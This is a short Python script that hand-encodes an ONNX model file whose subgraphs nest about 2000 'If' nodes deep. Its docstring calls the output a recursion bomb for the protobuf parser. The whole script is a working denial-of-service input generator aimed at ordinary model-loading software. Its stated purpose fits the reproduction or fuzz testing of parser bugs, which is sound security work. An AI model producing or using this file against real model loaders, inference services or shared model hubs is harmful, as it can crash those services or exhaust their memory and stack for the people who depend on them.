"""Writes a ModelProto whose subgraphs nest DEPTH levels deep (a recursion
bomb for the protobuf parser). Uses only the standard library."""
import sys

def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)

def field(number, payload):  # length-delimited field
    return varint(number << 3 | 2) + varint(len(payload)) + payload

depth = int(sys.argv[2]) if len(sys.argv) > 2 else 2000
graph = b""
for _ in range(depth):
    attribute = field(1, b"then_branch") + field(6, graph)  # name, g
    node = field(4, b"If") + field(5, attribute)             # op_type, attribute
    graph = field(1, node)                                   # GraphProto.node
model = varint(1 << 3) + varint(8) + field(7, graph)         # ir_version, graph
open(sys.argv[1], "wb").write(model)
